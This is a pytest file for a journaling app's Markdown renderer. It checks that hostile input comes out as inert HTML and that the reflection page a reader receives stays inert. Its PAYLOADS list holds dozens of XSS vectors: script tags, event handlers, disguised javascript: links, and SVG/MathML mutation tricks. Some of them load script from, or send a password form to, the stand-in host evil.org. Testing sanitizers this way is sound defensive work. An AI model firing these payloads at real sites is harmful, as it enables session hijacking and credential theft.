"""Markdown becomes safe HTML: hostile Markdown and HTML render inert, with or without the CSP.

Every payload goes through `journal.text.render_markdown`, and then (a handful of them) through a
real reflection page. The output is parsed with the standard library's HTML parser and held to an
allow-list written out here, independently of the one in journal/text.py.
"""

import html
import re
import uuid
from collections import Counter
from html.parser import HTMLParser

import pytest
from markupsafe import Markup

from journal import text
from journal.text import render_markdown

# What rendered Markdown may contain: SPEC's Markdown subset, and nothing that runs or loads.
ALLOWED_TAGS = {
    "p",
    "br",
    "hr",
    "strong",
    "em",
    "del",
    "s",
    "code",
    "pre",
    "blockquote",
    "a",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}
ALLOWED_ATTRIBUTES = {
    "a": {"href", "title", "rel", "target"},
    "ol": {"start"},
    "th": {"align"},
    "td": {"align"},
}
SAFE_SCHEMES = {"http", "https", "mailto"}
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "srcset",
    "content",
}
# Whitespace and control characters that browsers drop from a URL before reading its scheme.
_IGNORED_IN_URL = re.compile(r"[\x00-\x20\x7f-\x9f]")
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):")

PAYLOADS = [
    # script tags, plain and disguised
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.org/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "</p><script>alert(document.cookie)</script><p>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    # javascript:, data:, vbscript: links, in every disguise
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](&#x6A;avascript&#x3A;alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](java\tscript:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](<javascript:alert(1)>)",
    "[click](vbscript:msgbox(1))",
    "[click](VBScript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](DATA:text/html,<script>alert(1)</script>)",
    "[click](file:///etc/passwd)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#14;javascript:alert(1)">x</a>',
    '<a href=" &#x0A;javascript:alert(1)">x</a>',
    # autolinks and bare URLs with odd schemes
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<vbscript:msgbox(1)>",
    "ftp://example.org/file and data://example.org/x and feed://example.org/rss",
    "xmpp://example.org and ssh://example.org and irc://example.org",
    # reference-style links
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    '[x][evil]\n\n[evil]: <data:text/html,hi> "title"',
    '[x][ok]\n\n[ok]: https://example.org "a" onclick="alert(1)"',
    # images, which are not in the allow-list at all
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](https://evil.org/pixel.gif "tracker")',
    # SVG and MathML, namespace confusion
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    # embedding and page-changing elements
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<base href="https://evil.org/">',
    '<form action="https://evil.org/steal"><input name="password"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.org/x.css">',
    # mutation-XSS tricks
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    # unclosed and broken tags
    "<img src=x onerror=alert(1)",
    "<a href='javascript:alert(1)'",
    "<<script>script>alert(1)<</script>/script>",
    "<div><div><div><script>alert(1)",
    # HTML comments and conditional comments
    "<!-- <script>alert(1)</script> -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    # Markdown constructs carrying HTML
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "> <img src=x onerror=alert(1)>",
    "| a | b |\n| --- | --- |\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    '[x](https://example.org "title\\" onmouseover=\\"alert(1)")',
]


class ElementCollector(HTMLParser):
    """Every element and its attributes, as a browser's tokenizer would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text_in: Counter[str] = Counter()
        self._open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self._open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        if tag in self._open:
            while self._open and self._open.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        if data.strip() and self._open:
            self.text_in[self._open[-1]] += 1


def elements_of(markup: str) -> ElementCollector:
    collector = ElementCollector()
    collector.feed(markup)
    collector.close()
    return collector


def scheme_of(url: str) -> str | None:
    """The scheme a browser would read from this attribute value, lower-cased, if any."""
    cleaned = _IGNORED_IN_URL.sub("", html.unescape(url))
    match = _SCHEME.match(cleaned)
    return match.group(1).lower() if match else None


def dangers_in(tag: str, attributes: dict[str, str | None]) -> list[str]:
    """What is wrong with one element's attributes, wherever it appears."""
    found = []
    for name, value in attributes.items():
        if name.startswith("on"):
            found.append(f"event handler {name} on <{tag}>")
        if name == "style":
            found.append(f"style attribute on <{tag}>")
        if name in URL_ATTRIBUTES and value is not None:
            scheme = scheme_of(value)
            if scheme is not None and scheme not in SAFE_SCHEMES:
                found.append(f"{scheme}: URL in {name} of <{tag}>")
    return found


def problems_in_rendered_markdown(markup: str) -> list[str]:
    problems = []
    for tag, attributes in elements_of(markup).elements:
        if tag not in ALLOWED_TAGS:
            problems.append(f"<{tag}> is not allowed")
        extra = set(attributes) - ALLOWED_ATTRIBUTES.get(tag, set())
        if extra:
            problems.append(f"<{tag}> has attributes {sorted(extra)}")
        problems.extend(dangers_in(tag, attributes))
    return problems


def test_the_corpus_is_large_enough():
    assert len(PAYLOADS) >= 40
    assert len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_markdown_renders_inert(payload):
    rendered = render_markdown(payload)

    assert isinstance(rendered, Markup)
    assert problems_in_rendered_markdown(str(rendered)) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_markdown_is_inert_inside_any_surrounding_text(payload):
    # Payloads glued to ordinary Markdown, the way they would arrive in a real reflection.
    source = f"Before **bold**\n\n{payload}\n\n- a list item {payload}\n\nafter [ok](https://example.org)"
    assert problems_in_rendered_markdown(str(render_markdown(source))) == []


def test_the_checker_catches_what_it_is_meant_to_catch():
    # The checks above are only as good as this checker: show it failing on unsafe HTML.
    unsafe = [
        '<a href="javascript:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href=" java\tscript:alert(1)">x</a>',
        '<a href="DATA:text/html,x">x</a>',
        '<a href="ftp://example.org">x</a>',
        '<p onclick="x">x</p>',
        '<p style="color:red">x</p>',
        '<img src="https://example.org/x.png">',
        "<svg></svg>",
        '<a href="https://example.org" id="x">x</a>',
    ]
    for markup in unsafe:
        assert problems_in_rendered_markdown(markup) != [], markup


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("**strong** and *em*", "<p><strong>strong</strong> and <em>em</em></p>"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
        ("3. three\n4. four", '<ol start="3">'),
        ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>"),
        ("`a < b`", "<code>a &lt; b</code>"),
        ("~~gone~~", "<s>gone</s>"),
        ("# Title", "<h1>Title</h1>"),
        ("| a |\n| - |\n| b |", "<td>b</td>"),
        ("<b>not bold</b>", "&lt;b&gt;not bold&lt;/b&gt;"),
    ],
)
def test_ordinary_markdown_still_renders(source, expected):
    assert expected in str(render_markdown(source))


@pytest.mark.parametrize(
    ("source", "href"),
    [
        ("[site](https://example.org/a?b=1)", "https://example.org/a?b=1"),
        ("[site](http://example.org)", "http://example.org"),
        ("[mail](mailto:fran@example.org)", "mailto:fran@example.org"),
        ("see https://example.org/page today", "https://example.org/page"),
        ("<https://example.org/auto>", "https://example.org/auto"),
    ],
)
def test_safe_links_are_kept_and_open_safely(source, href):
    links = [
        attrs for tag, attrs in elements_of(str(render_markdown(source))).elements if tag == "a"
    ]

    assert len(links) == 1
    assert links[0]["href"] == href
    # No Referer to outside sites, no window.opener, no borrowed page rank.
    assert set(links[0]["rel"].split()) >= {"noopener", "noreferrer", "nofollow"}


def test_links_with_other_schemes_are_not_made():
    rendered = str(render_markdown("ftp://example.org/file data://example.org/x"))

    assert "<a" not in rendered
    assert "ftp://example.org/file" in rendered


@pytest.mark.parametrize("payload", PAYLOADS[:20])
def test_a_text_rendered_again_comes_from_the_cache_and_is_as_inert(payload):
    first = render_markdown(payload)
    hits = text._cached.cache_info().hits
    assert render_markdown(payload) == first
    assert text._cached.cache_info().hits == hits + 1
    assert problems_in_rendered_markdown(str(render_markdown(payload))) == []


def test_a_long_text_is_rendered_without_the_cache():
    long = "**Bold** <script>alert(1)</script> " * (text.CACHED_LENGTH // 30)
    assert len(long) > text.CACHED_LENGTH
    misses, size = text._cached.cache_info().misses, text._cached.cache_info().currsize
    rendered = render_markdown(long)
    assert rendered.count("<strong>Bold</strong>") == text.CACHED_LENGTH // 30
    assert "<script" not in rendered
    assert (text._cached.cache_info().misses, text._cached.cache_info().currsize) == (misses, size)


def test_empty_text_renders_to_nothing():
    assert render_markdown("") == Markup("")


# The reflection page, through HTTP: the payloads must be inert in the page a reader receives.

PAGE_PAYLOADS = {
    "experience": "\n\n".join(PAYLOADS[0:25]),
    "insight": "\n\n".join(PAYLOADS[25:50]),
    "next_action": "\n\n".join(PAYLOADS[50:]),
    "action_outcome": "<img src=x onerror=alert(1)> [x](javascript:alert(1)) <svg onload=alert(1)>",
}
# Elements of the page itself (layout, forms, the one script file): their number must not change
# whatever a reflection contains.
PAGE_ELEMENTS = {
    "script",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "meta",
    "link",
    "base",
    "iframe",
    "frame",
    "object",
    "embed",
    "svg",
    "math",
    "img",
    "style",
    "noscript",
    "video",
    "audio",
    "source",
    "template",
    "details",
    "dialog",
}


def page_elements(page: str) -> Counter[str]:
    return Counter(tag for tag, _attrs in elements_of(page).elements if tag in PAGE_ELEMENTS)


def page_problems(page: str) -> list[str]:
    collector = elements_of(page)
    problems = []
    for tag, attributes in collector.elements:
        problems.extend(dangers_in(tag, attributes))
        if tag == "script" and not (attributes.get("src") or "").startswith("/static/"):
            problems.append(f"script not from /static/: {attributes}")
    if collector.text_in["script"]:
        problems.append("inline script content")
    return problems


def _write(client, token: str, meeting_id: int, **texts) -> str:
    """A reflection written the way the app receives one (the API), returning its page's path."""
    reflection_id = str(uuid.uuid4())
    body = {
        "experience": "",
        "insight": "",
        "next_action": "",
        "action_due": None,
        "action_status": "open",
        "action_outcome": "",
        "meeting_id": meeting_id,
        "set_id": None,
        "visibility": "set",
        "base_version": None,
        **texts,
    }
    answer = client.put(
        f"/api/v1/reflections/{reflection_id}", headers={"X-CSRFToken": token}, json=body
    )
    assert answer.status_code == 201, answer.json
    return f"/reflections/{reflection_id}"


@pytest.fixture
def reflection_pages(make, client, auth):
    """The same reflection page twice: once with plain words, once with the hostile corpus,
    as its author and as another candidate of the set sees it."""
    author, reader = make.user("Cara"), make.user("Cal")
    meeting = make.meeting(make.set(candidates=[author, reader]))
    auth.login(author.email)
    token = auth.csrf()
    # PostgreSQL cannot store NUL characters: the app refuses them (422) before they get there.
    hostile_texts = {name: text.replace("\x00", "") for name, text in PAGE_PAYLOADS.items()}
    plain = _write(
        client,
        token,
        meeting.id,
        experience="Plain words.",
        insight="More words.",
        next_action="An action.",
        action_outcome="An outcome.",
    )
    hostile = _write(client, token, meeting.id, **hostile_texts)
    pages = [client.get(plain), client.get(hostile)]
    auth.logout()
    auth.login(reader.email)
    return [*pages, client.get(plain), client.get(hostile)]


def test_hostile_reflection_page_is_inert(reflection_pages):
    plain, hostile, plain_to_reader, hostile_to_reader = reflection_pages

    assert [page.status_code for page in reflection_pages] == [200, 200, 200, 200]
    assert page_problems(hostile.text) == []
    assert page_problems(hostile_to_reader.text) == []
    assert page_elements(hostile.text) == page_elements(plain.text)
    assert page_elements(hostile_to_reader.text) == page_elements(plain_to_reader.text)


def test_hostile_reflection_page_still_shows_the_words(reflection_pages):
    hostile = reflection_pages[1]
    # Escaped, not silently dropped: the author can still see what they wrote.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in hostile.text
    assert "What came of it" in hostile.text


# Plain text: what a card's excerpt shows and a PDF lays out ---------------------------------


def test_plain_text_shows_the_words_never_the_syntax():
    source = (
        "About a **team that avoids giving me feedback**, _twice_ and `once`:\n\n"
        "- ask [why](https://example.org/why)\n- ~~then~~ listen\n\n## Next\n\n> quoted"
    )
    assert text.plain_text(source) == (
        "About a team that avoids giving me feedback, twice and once:\n\n"
        "• ask why (https://example.org/why)\n\n• then listen\n\nNext\n\nquoted"
    )


def test_plain_text_is_text_not_markup_so_pages_escape_it():
    found = text.plain_text("**<script>alert(1)</script>** & <b>bold</b>")

    assert not isinstance(found, Markup)
    assert found == "<script>alert(1)</script> & <b>bold</b>"
    assert text.plain_text("") == ""


def test_the_plain_text_filter_is_the_same_function(app):
    with app.app_context():
        rendered = app.jinja_env.from_string("{{ s|plain_text }}").render(s="**<b>x</b>**")
    assert rendered == "&lt;b&gt;x&lt;/b&gt;"
